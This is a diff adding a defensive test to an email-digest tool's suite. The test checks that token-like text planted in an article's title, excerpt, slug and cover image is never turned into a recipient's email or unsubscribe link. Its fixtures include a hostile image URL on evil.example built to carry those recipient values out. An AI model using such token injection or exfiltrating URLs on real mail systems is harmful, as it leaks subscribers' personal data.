@@ -219,3 +219,44 @@ def test_footer_links_to_the_preferences_page_when_one_is_served(sample, monkeyp
 def test_no_preferences_link_without_a_served_page(run):
     email = run.email(selection_for(run, "grace@example.org"))
     assert "Change your topics" not in email.html + email.text
+
+
+# Token-looking text an article author could write: untagged, tagged for each context, content-level.
+HOSTILE = "__DG_email__ __DGH_email__ __DGA_unsubscribe_url__ __DGP_first_name__ __DGC_preheader__"
+
+
+def test_article_text_never_becomes_a_recipient_token(sample, monkeypatch):
+    """An article cannot pull a recipient's address or unsubscribe link into its own text or URLs."""
+    monkeypatch.setenv("DIGEST_SECRET", "s" * 32)
+    sample.write_text(sample.read_text() + '\n[sending]\nunsubscribe_url = "https://news.example.com/unsubscribe"\n')
+    robots = sample.parent / "content/2026/11/robot-dogs-learn-stairs.md"
+    text = robots.read_text(encoding="utf-8")
+    cover = "https://evil.example/p.png?e=__DG_email__&u=__DGA_unsubscribe_url__&f=__DGH_first_name__"
+    slug = "stairs-__DG_email__-__DGA_unsubscribe_url__"  # the sample's links are built from slugs
+    text = text.replace("title: Robot dogs finally learn to take the stairs", f'title: "Stairs {HOSTILE}"')
+    text = text.replace("excerpt: A new", f"excerpt: {HOSTILE} A new")
+    text = text.replace("coverImage: https://images.example.com/robotics/robot-dog-stairs.jpg?w=800&h=400&fit=crop", "")
+    text = text.replace("slug: robot-dogs-learn-stairs", f"slug: {slug}\ncoverImage: {cover}")
+    robots.write_text(text, encoding="utf-8")
+    run = open_run(load_config(sample), SAMPLE_AT)
+    received = 0
+    for sub in run.subscribers.subscribers:
+        selection = run.select(sub)
+        if not any(a.id.endswith("robot-dogs-learn-stairs") for a in selection.articles):
+            continue
+        received += 1
+        values = run.values(sub)
+        email = run.email(selection)
+        assert email.html == run.variant(sub).composer.compose_direct(selection, run.edition, values).html
+        assert f"Stairs {HOSTILE}" in email.html and f"Stairs {HOSTILE}" in email.text
+        assert f"{HOSTILE} A new" in email.html
+        if selection.articles[0].id.endswith("robot-dogs-learn-stairs"):
+            assert email.subject.startswith(f"Stairs {HOSTILE}")
+        assert cover.replace("&", "&amp;") in email.html
+        assert f"/{slug}?utm_source" in email.html and f"/{slug}" in email.text
+        leaked = re.findall(r"evil\.example[^\"\s<>]*", email.html + email.text)
+        assert leaked and not any(sub.email in u or "token" in u or "@" in u for u in leaked)
+        # SendGrid substitutes its tokens anywhere in the body: none may be spelled like the article's text
+        content = run.content_for(selection)
+        assert content.tokens and not any(tok in HOSTILE or tok in cover or tok in slug for tok, _, _ in content.tokens)
+    assert received
